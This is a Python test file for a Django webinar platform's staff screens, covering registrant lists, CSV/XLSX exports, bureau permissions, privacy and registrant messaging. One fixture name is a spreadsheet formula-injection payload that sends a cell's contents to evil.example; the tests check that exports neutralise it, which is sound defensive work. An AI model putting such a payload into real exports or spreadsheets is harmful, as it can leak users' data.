"""The bureau staff's admin screens: registrants, numbers, downloads, messages."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.core import mail
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from lms.accounts.models import Profile
from lms.webinars.models import (
    Attendance,
    Registration,
    RegistrationStatus,
    WebinarPage,
)
from lms.webinars.staff.hooks import WebinarsMenuItem
from lms.webinars.wagtail_hooks import webinar_header_buttons, webinar_listing_buttons
from tests.accounts.helpers import login_staff
from tests.factories import UserFactory

from .factories import webinar
from .test_permissions import staff_of

pytestmark = pytest.mark.django_db

START = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
CONFIRMED = RegistrationStatus.CONFIRMED
WAITLISTED = RegistrationStatus.WAITLISTED
CANCELLED = RegistrationStatus.CANCELLED
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def register(event, status, *, minute=0, minutes=None, profile=None, **user_fields):
    user = UserFactory(**user_fields)
    Registration.objects.create(
        user=user,
        webinar=event,
        status=status,
        registered_at=START + timedelta(minutes=minute),
    )
    if minutes is not None:
        Attendance.objects.create(webinar=event, user=user, minutes=minutes)
    if profile is not None:
        Profile.objects.create(user=user, **profile)
    return user


@pytest.fixture
def event():
    return webinar(bureau="africa", capacity=3, min_attended_minutes=30)


@pytest.fixture
def learners(event):
    return {
        "amina": register(
            event,
            CONFIRMED,
            minute=1,
            minutes=40,
            first_name="Amina",
            last_name="Diallo",
            profile={"country": "SN", "sector": "C"},
        ),
        "evil": register(
            event, CONFIRMED, minute=2, minutes=5, first_name=HYPERLINK, last_name=""
        ),
        "kofi": register(event, WAITLISTED, minute=3, first_name="Kofi"),
        "lina": register(event, CANCELLED, minute=0, first_name="Lina"),
    }


@pytest.fixture
def staff(client):
    user = staff_of("africa")
    login_staff(client, user)
    return user


def registrants_url(event):
    return reverse("webinars_registrants", args=[event.pk])


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


class TestRegistrantList:
    def test_staff_see_everyone_with_their_place_and_attendance(
        self, client, staff, event, learners
    ):
        response = client.get(registrants_url(event))
        assert response.status_code == 200
        text = response.text
        for expected in ("Amina Diallo", "Kofi", "Lina", "On the waiting list"):
            assert expected in text
        assert reverse("webinars_message", args=[event.pk]) in text

    def test_country_and_sector_are_never_shown_with_a_name(
        self, client, staff, event, learners
    ):
        # The profile promises them to anonymous statistics only.
        assert learners["amina"].profile.country.name == "Senegal"
        page = client.get(registrants_url(event)).text
        assert "Amina Diallo" in page
        for private in ("Senegal", "Manufacturing", "WIPO region", "Business sector"):
            assert private not in page
        header, *rows = csv_rows(client.get(registrants_url(event), {"export": "csv"}))
        assert rows[0][0] == "Amina Diallo"
        cells = {cell for row in [header, *rows] for cell in row}
        for private in ("Senegal", "SN", "Africa", "Manufacturing", "C"):
            assert private not in cells
        assert not {"Country", "WIPO region", "Business sector (ISIC)"} & cells
        response = client.get(registrants_url(event), {"export": "xlsx"})
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        values = {cell.value for row in sheet.iter_rows() for cell in row}
        assert "Amina Diallo" in values
        assert not {"Senegal", "SN", "Africa", "Manufacturing", "Country"} & values

    def test_the_numbers_head_the_list(self, client, staff, event, learners):
        response = client.get(registrants_url(event))
        numbers = response.context["numbers"]
        assert (numbers.confirmed, numbers.waitlisted, numbers.cancelled) == (2, 1, 1)
        assert numbers.attended == 1
        assert response.context["attendance_rate"] == "50.0%"
        assert numbers.seats_left == 1
        assert "The webinar in numbers" in response.text

    def test_filtered_by_status(self, client, staff, event, learners):
        response = client.get(registrants_url(event), {"status": WAITLISTED})
        listed = [r.user for r in response.context["object_list"]]
        assert listed == [learners["kofi"]]

    def test_csv_download_is_formula_safe(self, client, staff, event, learners):
        response = client.get(registrants_url(event), {"export": "csv"})
        assert response["Content-Type"] == "text/csv"
        assert f"webinar-{event.pk}-registrants.csv" in response["Content-Disposition"]
        header, *rows = csv_rows(response)
        assert header == [
            "Name",
            "Email",
            "Status",
            "Registered at",
            "Place on the waiting list",
            "Minutes attended",
            "Attended",
        ]
        names = [row[0] for row in rows]
        assert names == ["Amina Diallo", "'" + HYPERLINK, "Kofi", "Lina"]
        amina, evil, kofi, lina = rows
        assert amina[2] == "Confirmed"
        assert amina[5:] == ["40", "Yes"]
        assert evil[5:] == ["5", "No"]
        assert kofi[2:] == ["On the waiting list", kofi[3], "1", "", "No"]
        assert lina[4] == ""

    def test_xlsx_download_is_formula_safe_and_keeps_dates(
        self, client, staff, event, learners
    ):
        response = client.get(registrants_url(event), {"export": "xlsx"})
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        evil = sheet[3]
        assert (evil[0].value, evil[0].data_type) == ("'" + HYPERLINK, "s")
        assert isinstance(evil[3].value, datetime)
        assert sheet[4][4].value == 1  # Kofi, first on the waiting list.

    def test_queries_do_not_grow_with_registrants(
        self, client, staff, event, django_assert_max_num_queries
    ):
        def fill(first: int, count: int) -> None:
            for minute in range(first, first + count):
                register(
                    event,
                    CONFIRMED if minute % 2 else WAITLISTED,
                    minute=minute,
                    minutes=minute,
                    profile={"country": "KE", "sector": "A"},
                )

        fill(0, 2)
        client.get(registrants_url(event))  # Warm Wagtail's caches.
        with CaptureQueriesContext(connection) as few:
            client.get(registrants_url(event))
        fill(2, 30)
        with django_assert_max_num_queries(len(few)):
            response = client.get(registrants_url(event))
        assert len(response.context["object_list"]) == 32
        with django_assert_max_num_queries(len(few)):
            response = client.get(registrants_url(event), {"export": "csv"})
            assert len(csv_rows(response)) == 33

    def test_another_bureaus_staff_find_nothing(self, client, event, learners):
        login_staff(client, staff_of("arab-region"))
        for url in (
            registrants_url(event),
            reverse("webinars_message", args=[event.pk]),
        ):
            # LocaleMiddleware retries an admin 404 under /en/, a 404 too.
            assert client.get(url, follow=True).status_code == 404
            assert client.get(url, {"export": "csv"}, follow=True).status_code == 404

    def test_superusers_see_every_bureaus(self, client, event, learners):
        login_staff(client, UserFactory(is_superuser=True))
        assert client.get(registrants_url(event)).status_code == 200

    def test_learners_are_sent_to_log_in(self, client, event):
        client.force_login(UserFactory())
        response = client.get(registrants_url(event))
        assert response.status_code == 302
        assert response.url.startswith(reverse("account_login"))


class TestWebinarsReport:
    def test_lists_only_webinars_the_user_may_edit_with_numbers(
        self, client, staff, event, learners
    ):
        other = webinar(bureau="arab-region", title="Elsewhere")
        response = client.get(reverse("webinars_report"))
        assert response.status_code == 200
        assert list(response.context["object_list"]) == [event]
        assert registrants_url(event) in response.text
        assert other.title not in response.text

    def test_spreadsheet(self, client, staff, event, learners):
        # Updated in place: publishing would fill the free seat from the queue.
        WebinarPage.objects.filter(pk=event.pk).update(title_en="=Bad idea")
        response = client.get(reverse("webinars_report"), {"export": "csv"})
        header, row = csv_rows(response)
        assert header == [
            "Webinar",
            "Bureau",
            "Starts at",
            "Status",
            "Registered",
            "Waiting list",
            "Cancelled",
            "Attended",
            "Attendance rate (%)",
            "Seats left",
        ]
        assert row[0] == "'=Bad idea"
        assert row[3:] == ["Scheduled", "2", "1", "1", "1", "50.0", "1"]

    def test_superusers_see_all(self, client, event):
        other = webinar(bureau="arab-region")
        login_staff(client, UserFactory(is_superuser=True))
        response = client.get(reverse("webinars_report"))
        assert set(response.context["object_list"]) == {event, other}

    def test_queries_do_not_grow_with_webinars(
        self, client, staff, event, django_assert_max_num_queries
    ):
        client.get(reverse("webinars_report"))  # Warm Wagtail's caches.
        with CaptureQueriesContext(connection) as queries:
            client.get(reverse("webinars_report"))
        for _ in range(5):
            register(webinar(bureau="africa"), CONFIRMED, minutes=40)
        with django_assert_max_num_queries(len(queries)):
            client.get(reverse("webinars_report"))


class TestMessage:
    def url(self, event):
        return reverse("webinars_message", args=[event.pk])

    def confirm(self, client, event, **data):
        response = client.post(self.url(event), {"message": "Bring a pen.", **data})
        assert response.status_code == 200
        return response

    def test_a_confirmation_says_how_many_will_get_it(
        self, client, staff, event, learners
    ):
        assert client.get(self.url(event)).status_code == 200
        response = self.confirm(client, event)
        assert response.context["recipient_count"] == 2
        assert "sent to 2 confirmed people" in response.text
        assert not mail.outbox
        response = self.confirm(client, event, include_waitlisted="on")
        assert response.context["recipient_count"] == 3

    def test_sending_queues_one_email_per_recipient_once(
        self, client, staff, event, learners
    ):
        token = self.confirm(client, event).context["form"].initial["token"]
        data = {"message": "Bring a pen.", "token": token, "send": "1"}
        response = client.post(self.url(event), data, follow=True)
        assert response.redirect_chain[-1][0] == registrants_url(event)
        assert "Message sent to 2 registrants." in response.text
        assert sorted(m.to[0] for m in mail.outbox) == sorted(
            [learners["amina"].email, learners["evil"].email]
        )
        assert all("Bring a pen." in m.body for m in mail.outbox)
        assert all(event.title in m.subject for m in mail.outbox)
        # A double click posts the same form again: nothing more is sent.
        response = client.post(self.url(event), data, follow=True)
        assert "already been sent" in response.text
        assert len(mail.outbox) == 2

    def test_waitlisted_people_too_when_asked(self, client, staff, event, learners):
        token = (
            self.confirm(client, event, include_waitlisted="on")
            .context["form"]
            .initial["token"]
        )
        client.post(
            self.url(event),
            {
                "message": "Bring a pen.",
                "include_waitlisted": "True",
                "token": token,
                "send": "1",
            },
        )
        assert learners["kofi"].email in {m.to[0] for m in mail.outbox}
        assert learners["lina"].email not in {m.to[0] for m in mail.outbox}

    def test_a_long_or_empty_message_is_refused(self, client, staff, event):
        for message in ("", "x" * 2001):
            response = client.post(self.url(event), {"message": message})
            assert response.status_code == 200
            assert response.context["form"].errors["message"]
        assert not mail.outbox

    def test_rate_limited(self, client, staff, event, learners):
        from lms.webinars.staff import views

        for _ in range(views.MESSAGE_LIMIT + 1):
            token = self.confirm(client, event).context["form"].initial["token"]
            response = client.post(
                self.url(event),
                {"message": "Bring a pen.", "token": token, "send": "1"},
            )
        assert response.status_code == 200
        assert "Too many messages" in response.text
        assert len(mail.outbox) == 2 * views.MESSAGE_LIMIT


class TestLinks:
    def test_registrants_button_for_the_bureaus_staff_only(self, event):
        own, other = staff_of("africa"), staff_of("arab-region")
        registrants, attendance = webinar_header_buttons(event, own, "edit")
        assert registrants.url == registrants_url(event)
        assert attendance.url == reverse("webinars_attendance", args=[event.pk])
        assert not list(webinar_header_buttons(event, other, "edit"))
        assert len(list(webinar_listing_buttons(event, own))) == 2
        assert not list(webinar_listing_buttons(event.get_parent(), own))

    def test_the_button_shows_on_the_edit_page_and_in_the_page_listing(
        self, client, staff, event
    ):
        edit = client.get(reverse("wagtailadmin_pages:edit", args=[event.pk]))
        assert registrants_url(event) in edit.text
        listing = client.get(
            reverse("wagtailadmin_explore", args=[event.get_parent().pk])
        )
        assert registrants_url(event) in listing.text

    def test_menu_item_for_webinar_staff_only(self, event):
        item = WebinarsMenuItem("Webinars", "/")
        request = RequestFactory().get("/")
        request.user = staff_of("africa")
        assert item.is_shown(request)
        request.user = UserFactory(is_superuser=True)
        assert item.is_shown(request)
        request.user = UserFactory()
        assert not item.is_shown(request)
